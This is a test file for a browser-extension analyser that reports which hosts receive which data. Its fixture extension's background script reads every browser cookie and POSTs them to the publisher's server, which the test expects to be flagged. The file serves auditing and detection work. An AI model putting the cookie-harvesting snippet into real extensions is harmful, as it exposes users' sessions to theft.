import { expect, it } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { destinationsOf } from './destinationsOf.ts';

it('says which host gets what', async () => {
  const facts = await factsOf({
    files: {
      'manifest.json':
        '{"manifest_version": 3, "homepage_url": "https://www.mine.io/", "permissions": ["cookies"], "background": {"service_worker": "bg.js"}}',
      'bg.js': `chrome.cookies.getAll({}, (list) => {
  fetch('https://api.mine.io/in', { method: 'POST', body: JSON.stringify(list) });
});
fetch('https://rates.other.io/today').then((answer) => answer.json()).then(show);`,
    },
  });
  expect(destinationsOf(facts, [])).toMatchObject([
    { host: 'api.mine.io', purpose: "the publisher's own server", sends: ['cookies'], insecure: false },
    { host: 'rates.other.io', purpose: 'unknown', sends: [] },
  ]);
});
